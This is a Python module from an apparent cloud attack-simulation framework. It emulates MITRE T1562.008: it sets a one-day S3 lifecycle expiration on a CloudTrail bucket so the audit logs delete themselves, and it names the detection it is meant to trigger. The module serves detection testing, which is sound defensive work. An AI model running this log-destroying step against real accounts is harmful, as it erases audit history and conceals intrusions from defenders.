"""Impair CloudTrail logs with a one-day expiration lifecycle rule on the trail's bucket."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.defense_evasion._trail import make_trail, remove_trail

EXPIRE_NEXT_DAY = {"ID": "expire-after-1-day", "Status": "Enabled", "Expiration": {"Days": 1},
                   "Filter": {"Prefix": "*"}}  # fmt: skip


@technique
class CloudTrailLifecycleRule(Technique):
    title = "CloudTrail logs impairment through an S3 lifecycle rule"
    attack = ("T1562.008",)
    expects = ("s3_trail_bucket_short_expiration",)
    description = (
        "Finds the bucket the account's trail delivers to and puts a lifecycle rule on it that expires "
        "every object after one day, so the trail's history disappears on its own."
    )

    def warmup(self, ctx: Ctx) -> Json:
        return make_trail(ctx, "security-trail")

    def detonate(self, ctx: Ctx, state: Json) -> None:
        session = ctx.attacker()
        trails = client("cloudtrail", session=session).describe_trails(trailNameList=[state["trail"]])
        bucket = trails["trailList"][0]["S3BucketName"]
        client("s3", session=session).put_bucket_lifecycle_configuration(
            Bucket=bucket, LifecycleConfiguration={"Rules": [EXPIRE_NEXT_DAY]}
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        remove_trail(ctx, state)
